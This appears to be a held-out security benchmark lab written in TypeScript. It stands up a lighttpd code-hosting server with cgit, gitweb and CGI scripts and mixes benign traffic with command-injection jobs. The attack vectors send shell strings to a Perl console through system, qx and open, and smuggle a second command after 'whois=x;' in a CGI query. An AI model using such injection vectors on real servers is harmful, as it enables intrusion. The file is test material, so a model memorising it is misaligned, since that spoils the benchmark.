import { clientB } from '../../hands/client_b';
import { manualB } from '../../hands/manual_b';
import { scannerB } from '../../hands/scanner_b';
import type { Lab } from '../../lab';
import { mix } from '../../mix';
import { toAttacks } from '../../to_attacks';
import type { Vector } from '../../to_attacks';
import { admin, page } from '../../work';

const SITE = 'http://127.0.0.1:8081';
const cgit = (technique: string, path: string): ReturnType<typeof page> =>
  page(technique, `${SITE}/cgit/${path}`);
const gitweb = (technique: string, query: string): ReturnType<typeof page> =>
  page(technique, `${SITE}/gitweb/?${query}`);
const service = (name: string): ReturnType<typeof page> =>
  page(name.split('=')[0] ?? name, `${SITE}/cgi/service.cgi?${name}`);

const by = (name: string): Vector => ({
  how: `cgi-perl:${name}`,
  toCurl: (shell) => [
    '-d',
    `m=${name}`,
    '--data-urlencode',
    `q=${shell}`,
    `${SITE}/cgi/console.pl`,
  ],
});
const attacks = toAttacks(
  [scannerB, manualB, clientB],
  [
    by('system'),
    {
      how: 'cgi-bash:eval',
      toCurl: (shell) => [
        `${SITE}/cgi/service.cgi?whois=x;${encodeURIComponent(shell).replaceAll("'", '%27')}`,
      ],
    },
    by('qx'),
    by('open'),
  ],
  {
    root: '/srv/code/www',
    app: '/srv/code',
    config: '/srv/code/mirror.conf',
    uploads: '/srv/code/out',
  }
);

const benign = [
  cgit('cgit-index', ''),
  cgit('cgit-summary', 'site.git/'),
  cgit('cgit-log', 'site.git/log/'),
  cgit('cgit-tree', 'site.git/tree/'),
  cgit('cgit-about', 'site.git/about/'),
  cgit('cgit-source', 'site.git/tree/index.html'),
  cgit('cgit-snapshot', 'site.git/snapshot/site-main.tar.gz'),
  gitweb('gitweb-list', 'a=project_list'),
  gitweb('gitweb-summary', 'p=site.git;a=summary'),
  gitweb('gitweb-log', 'p=site.git;a=log'),
  gitweb('gitweb-tree', 'p=site.git;a=tree'),
  gitweb('gitweb-diff', 'p=site.git;a=commitdiff'),
  gitweb('gitweb-search', 'p=site.git;a=search;s=First'),
  page('git-clone', `${SITE}/git/site.git/info/refs?service=git-upload-pack`),
  service('health'),
  service('fetch'),
  service('gc'),
  service('archive'),
  service('hook'),
  service('mirrors'),
  service('rotate'),
  service('users'),
  service('since'),
  service('whois=company.example'),
  gitweb('gitweb-snapshot', 'p=site.git;a=snapshot;sf=tgz;h=main'),
  cgit('cgit-summary', 'site.git/'),
  page('git-clone', `${SITE}/git/site.git/info/refs?service=git-upload-pack`),
  admin('lighttpd-test', 'lighttpd -tt -f /etc/lighttpd-code.conf'),
  admin(
    'new-repository',
    'git init -q --bare /srv/code/repositories/new.git && chown -R www-data: /srv/code/repositories/new.git'
  ),
  admin('fsck', 'runuser -u www-data -- git -C /srv/code/repositories/site.git fsck --no-progress'),
];

export const lighttpdCgit: Lab = {
  name: 'lighttpd_cgit',
  split: 'heldout',
  hostName: 'code',
  setUp: `
    mkdir -p /srv/code/repositories /srv/code/out /srv/code/www /srv/code/work
    chmod +x /srv/code/cgi/*
    echo 'token = wintergarten' > /srv/code/mirror.conf
    printf 'ada:1\\nkarl:2\\n' > /srv/code/users
    echo start > /srv/code/out/access.log
    git init -q -b main /srv/code/upstream && cd /srv/code/upstream
    printf '<p>site</p>\\n' > index.html && printf 'all:\\n\\t@cp index.html ../www/\\n' > Makefile && echo '# Site' > README.md
    git add . && git -c user.name=dev -c user.email=dev@company.example commit -q -m First
    echo more >> index.html && git -c user.name=dev -c user.email=dev@company.example commit -q -a -m Second
    git clone -q --mirror /srv/code/upstream /srv/code/repositories/site.git
    rm -rf /srv/code/work && git clone -q /srv/code/upstream /srv/code/work
    cat > /etc/cgitrc <<'CONF'
scan-path=/srv/code/repositories/
virtual-root=/cgit/
enable-index-links=1
snapshots=tar.gz
source-filter=/usr/lib/cgit/filters/syntax-highlighting.sh
about-filter=/usr/lib/cgit/filters/about-formatting.sh
readme=:README.md
CONF
    echo '$projectroot = "/srv/code/repositories"; $feature{"snapshot"}{"default"} = ["tgz"];' > /etc/gitweb.conf
    cat > /etc/lighttpd-code.conf <<'CONF'
server.modules = ("mod_alias", "mod_cgi", "mod_setenv")
server.document-root = "/srv/code/www"
server.bind = "127.0.0.1"
server.port = 8081
server.username = "www-data"
server.groupname = "www-data"
alias.url = ("/cgit/" => "/usr/lib/cgit/cgit.cgi/", "/gitweb/" => "/usr/lib/cgi-bin/gitweb.cgi", "/cgi/" => "/srv/code/cgi/", "/git/" => "/usr/lib/git-core/git-http-backend/")
cgi.assign = ("" => "")
static-file.exclude-extensions = (".cgi", ".pl")
setenv.add-environment = ("GIT_PROJECT_ROOT" => "/srv/code/repositories", "GIT_HTTP_EXPORT_ALL" => "1")
CONF
    chown -R www-data:www-data /srv/code`,
  start: ['lighttpd -D -f /etc/lighttpd-code.conf'],
  readyUrl: `${SITE}/cgit/`,
  jobs: mix(benign, attacks),
};
